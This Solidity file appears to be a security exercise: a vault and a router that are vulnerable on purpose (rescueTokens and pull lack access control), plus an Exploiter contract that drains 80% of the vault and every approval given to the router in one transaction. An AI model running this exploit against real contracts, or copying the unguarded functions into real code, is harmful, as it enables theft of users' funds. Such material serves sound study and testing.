// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IERC20 {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
}

// ERC-4626-style vault. Storage: share balanceOf at slot 0, totalSupply at 1, owner at 2.
// totalAssets is the vault's balance of the asset. convertToAssets = floor(shares * TA / TS).
// Deliberate bug: rescueTokens has no access control.
contract Vault {
    mapping(address => uint256) public balanceOf;
    uint256 public totalSupply;
    address public owner;
    IERC20 public immutable asset;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(IERC20 asset_) {
        asset = asset_;
        owner = msg.sender;
    }

    function totalAssets() public view returns (uint256) {
        return asset.balanceOf(address(this));
    }

    function convertToShares(uint256 assets) public view returns (uint256) {
        uint256 ts = totalSupply;
        return ts == 0 ? assets : assets * ts / totalAssets();
    }

    function convertToAssets(uint256 shares) public view returns (uint256) {
        uint256 ts = totalSupply;
        return ts == 0 ? shares : shares * totalAssets() / ts;
    }

    function deposit(uint256 assets) external returns (uint256 shares) {
        shares = convertToShares(assets);
        asset.transferFrom(msg.sender, address(this), assets);
        totalSupply += shares;
        balanceOf[msg.sender] += shares;
        emit Transfer(address(0), msg.sender, shares);
    }

    function redeem(uint256 shares) external returns (uint256 assets) {
        assets = convertToAssets(shares);
        balanceOf[msg.sender] -= shares;
        totalSupply -= shares;
        emit Transfer(msg.sender, address(0), shares);
        asset.transfer(msg.sender, assets);
    }

    function rescueTokens(IERC20 token, address to, uint256 amount) external {
        token.transfer(to, amount);
    }
}

// A "router" users approved: its pull has no access control (an approval drain).
contract Router {
    function pull(IERC20 token, address from, address to, uint256 amount) external {
        token.transferFrom(from, to, amount);
    }
}

// Drains 80% of the vault and every approval given to the router, in one transaction.
contract Exploiter {
    function attack(Vault vault, Router router, IERC20 token, address[] calldata victims, address to) external {
        uint256 bal = token.balanceOf(address(vault));
        vault.rescueTokens(token, to, bal * 8 / 10);
        for (uint256 i = 0; i < victims.length; i++) {
            router.pull(token, victims[i], to, token.balanceOf(victims[i]));
        }
    }
}
